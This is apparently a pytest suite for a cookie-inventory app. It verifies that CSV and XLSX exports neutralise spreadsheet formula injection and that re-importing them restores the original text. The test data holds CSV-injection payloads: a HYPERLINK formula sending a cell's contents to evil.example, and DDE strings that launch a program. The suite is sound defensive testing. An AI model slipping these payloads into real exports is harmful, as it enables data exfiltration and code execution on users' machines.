"""No exported cell is something a spreadsheet would evaluate: texts starting with = + - @,
tab or CR get a leading apostrophe in CSV; XLSX cells are typed text, never formulas, and
hold the text exactly (an apostrophe would show there); an import gives the original back."""

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import delete, select

from inventory.export import export_bytes
from inventory.importing import import_inventory
from inventory.rows import neutralise, unneutralise
from models import Category, Provider, Purpose, db
from tests.conftest import INVENTORY_TABLES
from tests.helpers import make_cookie
from tests.inventory.conftest import checksum

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "'=already quoted",
    "''+twice",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def add_hostile_cookie():
    provider = Provider(name='=HYPERLINK("http://evil.example","x")')
    purposes = [Purpose(description_fr=text, description_en=text) for text in PAYLOADS]
    make_cookie(
        name="=cmd|' /C calc'!A0",
        domain="",
        provider=provider,
        category=db.session.scalars(select(Category).where(Category.key == "marketing")).one(),
        service_fr="@SUM(A1:A2)",
        service_en="+1",
        purposes=purposes,
        lifetime_unit="days",
        lifetime_amount=1,
        notes="-1",
    )


@pytest.mark.parametrize("value", PAYLOADS + ["plain", "", "a=b", "'quoted", "'", "\tx", "\rx"])
def test_neutralising_is_exactly_reversible(value):
    assert unneutralise(neutralise(value)) == value
    assert not neutralise(value).startswith(DANGEROUS_START)


@pytest.mark.parametrize("fmt", ["csv", "csv-excel"])
def test_no_csv_cell_starts_like_a_formula(app, fmt):
    add_hostile_cookie()
    text = export_bytes(fmt).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if fmt == "csv-excel" else ","))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_START)]
    assert "'=cmd|' /C calc'!A0" in cells
    assert "'@SUM(A1:A2)" in cells and "'+1" in cells and "'-1" in cells


@pytest.mark.parametrize("lang", [None, "fr"])
def test_no_xlsx_cell_is_a_formula_and_texts_are_written_as_typed(app, lang):
    add_hostile_cookie()
    make_cookie(name="+tricky_é", notes="'+tricky_é")
    workbook = load_workbook(io.BytesIO(export_bytes("xlsx", **({"lang": lang} if lang else {}))))
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS_START):
                    # Text, and kept text when someone edits the cell (Excel's quote prefix).
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
    cookies, providers, purposes = (workbook.worksheets[index] for index in (0, 1, 3))
    names = [row[0] for row in cookies.iter_rows(min_row=2, values_only=True)]
    assert "=cmd|' /C calc'!A0" in names and "+tricky_é" in names
    assert "'+tricky_é" not in names
    notes = [row[-2] for row in cookies.iter_rows(min_row=2, values_only=True)]
    assert "'+tricky_é" in notes  # an apostrophe of the text itself stays, alone
    assert '=HYPERLINK("http://evil.example","x")' in [row[0] for row in providers.iter_rows(values_only=True)]
    assert set(PAYLOADS) <= {row[0] for row in purposes.iter_rows(values_only=True)}


def test_an_xlsx_export_restores_an_empty_database_exactly(app):
    add_hostile_cookie()
    make_cookie(name="+tricky_é", notes="'+tricky_é")
    db.session.commit()
    workbook = export_bytes("xlsx")
    cookies = [row[:-1] for row in load_workbook(io.BytesIO(workbook))["Cookies"].iter_rows(values_only=True)]
    for name in INVENTORY_TABLES:
        db.session.execute(delete(db.metadata.tables[name]))
    db.session.commit()
    report = import_inventory(workbook, filename="export.xlsx", dry_run=False)
    assert report.ok, report.summary()
    db.session.expire_all()
    again = export_bytes("xlsx")
    assert [row[:-1] for row in load_workbook(io.BytesIO(again))["Cookies"].iter_rows(values_only=True)] == cookies
    report = import_inventory(again, filename="again.xlsx")
    assert {change.action for change in report.changes} == {"unchanged"}


@pytest.mark.parametrize("fmt", ["csv", "csv-excel", "xlsx"])
def test_importing_the_export_restores_the_original_texts(app, fmt):
    add_hostile_cookie()
    before = checksum()
    report = import_inventory(export_bytes(fmt), filename=f"export.{fmt}", dry_run=False)
    assert report.ok, report.summary()
    assert {change.action for change in report.changes} == {"unchanged"}
    assert checksum() == before


AFTER_A_SEPARATOR = [
    "x;=cmd|' /C calc'!A0;y",
    "x,=cmd|' /C calc'!A0,y",
    "a;+1,-2;@3",
    "k;\"=cmd|' /C calc'!A0",
    'z,""@SUM(1)',
    "first line\n=1+1\r\n-2",
    "x;'=already;''+twice",
    "tab;\t=1",
]


def one_line(text):
    return text.replace("\n", " ").replace("\r", " ").replace("\t", " ")


@pytest.mark.parametrize("fmt", ["csv", "csv-excel"])
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_csv_cell_starts_like_a_formula_after_either_separator(app, fmt, delimiter):
    for number, text in enumerate(AFTER_A_SEPARATOR):
        make_cookie(name=f"separated_{number}", notes=text, service_fr=one_line(text))
    text = export_bytes(fmt).decode("utf-8-sig")
    # Read as a spreadsheet set to either list separator would read it.
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_START)]


@pytest.mark.parametrize("fmt", ["csv", "csv-excel"])
def test_csv_exports_with_separators_in_texts_import_back_unchanged(app, fmt):
    for number, text in enumerate(AFTER_A_SEPARATOR):
        make_cookie(name=f"separated_{number}", notes=text, service_fr=one_line(text))
    before = checksum()
    report = import_inventory(export_bytes(fmt), filename=f"export.{fmt}", dry_run=False)
    assert report.ok, report.summary()
    assert {change.action for change in report.changes} == {"unchanged"}
    assert checksum() == before
